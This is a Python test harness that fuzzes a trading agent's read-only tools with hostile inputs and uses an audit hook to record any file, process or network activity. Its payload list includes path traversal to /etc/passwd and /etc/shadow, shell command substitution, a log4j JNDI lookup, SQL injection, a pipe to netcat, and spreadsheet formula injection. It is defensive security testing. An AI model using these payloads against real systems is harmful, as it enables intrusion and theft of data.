"""Calls every tool that reads, as an agent does, and says what of the machine was touched by it.

A test starts it as a child with a folder: an audit hook can't be taken out again. It prints the
events in JSON, one a line, and ``calls N`` at the end.
"""

from __future__ import annotations

import json
import os
import sys
from pathlib import Path
from typing import Any

import anyio
from tests.gateway.reading import AGENT, Place, catalogue, read

from mtquant.agents.desk import TOOLS, AgentDesk
from mtquant.contract import AgentScope
from mtquant.control.commands import Commands

WATCHED = {
    "open", "os.remove", "os.rename", "os.mkdir", "os.rmdir", "os.chmod", "os.link", "os.symlink",
    "os.truncate", "os.system", "os.exec", "os.posix_spawn", "os.fork", "os.forkpty", "os.kill",
    "subprocess.Popen", "pty.spawn", "socket.connect", "socket.bind", "socket.getaddrinfo",
    "socket.sendto", "urllib.Request", "exec", "compile", "import", "shutil.copyfile",
    "shutil.rmtree", "tempfile.mkstemp", "tempfile.mkdtemp", "ctypes.dlopen", "code.__new__",
}  # fmt: skip
CANARY = "__import__('os').system('id')"
TEXTS = (
    CANARY, "../../../../etc/passwd", "/etc/shadow", "file:///etc/passwd", "http://example.com/x",
    "http://127.0.0.1:9/approve", "$(touch owned)", "`touch owned`", "{0.__class__}", "%s%s%n",
    "${jndi:ldap://example.com/a}", "'; DROP TABLE entries; --", "EUR/USD", "sma_cross", "desk",
    "-rf", "| nc example.com 4444", "journal.db", "\x00", "= cmd|' /C calc'!A0",
)  # fmt: skip
_watching = False
_events: list[tuple[str, str]] = []


def hook(event: str, arguments: tuple[Any, ...]) -> None:
    """Note what is done while the agent's calls are under way."""
    global _watching  # noqa: PLW0603 - a hook has no other place for it
    if not _watching or event not in WATCHED:
        return
    _watching = False  # what noting does is not what the agent did
    try:
        if event == "open":
            path, _, flags = arguments
            writes = flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC | os.O_APPEND)
            _events.append(("write" if writes else "read", str(path)))
        elif event in {"exec", "compile"}:
            source = arguments[0]
            name = getattr(source, "co_filename", None) or str(arguments[-1])
            _events.append((event, f"{name} {str(source)[:200]}"))
        else:
            _events.append((event, str(arguments)[:300]))
    finally:
        _watching = True


def value_for(schema: dict[str, Any], text: str) -> Any:  # noqa: ANN401 - JSON
    """Return what a hostile caller puts into an argument of this shape."""
    kinds = schema.get("type", "string")
    kind = kinds if isinstance(kinds, str) else kinds[0]
    made: Any = {"array": [text], "object": {text[:30]: text}, "integer": 5, "number": 1.5}
    return made.get(kind, text)


async def attack(place: Place) -> None:
    """Call each tool that reads with hostile texts in every argument, and once with none."""
    global _watching  # noqa: PLW0603 - as above
    engine = place.engine
    budget = AGENT.budget.model_copy(update={"calls_per_second": 1000.0, "strategies": ("*",)})
    agent = AGENT.model_copy(update={"scopes": tuple(AgentScope), "budget": budget})
    engine.wiring.agents = lambda: {agent.name: agent}
    engine.enrol()
    reads = [name for name, tool in TOOLS.items() if not tool.mark.changes]
    calls = answered = 0
    for text in ("", *TEXTS):
        for name in reads:
            # Begun anew, so that no refusal before pauses the agent.
            desk = AgentDesk(engine, Commands(engine), catalogue())
            fields = TOOLS[name].spec.input_schema["properties"]
            arguments = {key: value_for(each, text) for key, each in fields.items()}
            some: list[dict[str, Any]] = [{}, {"symbol": "EUR/USD"}, {"symbols": ["EUR/USD"]}]
            for tried in (arguments, *(some if not text else [])):
                _watching = True
                try:
                    answer = await desk.call(agent.name, name, tried, dry_run=False)
                finally:
                    _watching = False
                calls += 1
                answered += not answer.error
        desk = AgentDesk(engine, Commands(engine), catalogue())
        for resource in ("portfolio", "risk", "quotes", "journal"):
            _watching = True
            try:
                await desk.read(agent.name, resource)
            finally:
                _watching = False
            calls += 1
    sys.stdout.write(f"calls {calls} {answered}\n")


def main(folder: str) -> None:
    """Run it in ``folder``, where the journal and the brokers' ledgers lie."""
    sys.addaudithook(hook)
    anyio.run(read, Path(folder), attack)
    for event, what in _events:
        sys.stdout.write(json.dumps([event, what]) + "\n")


if __name__ == "__main__":
    main(sys.argv[1])
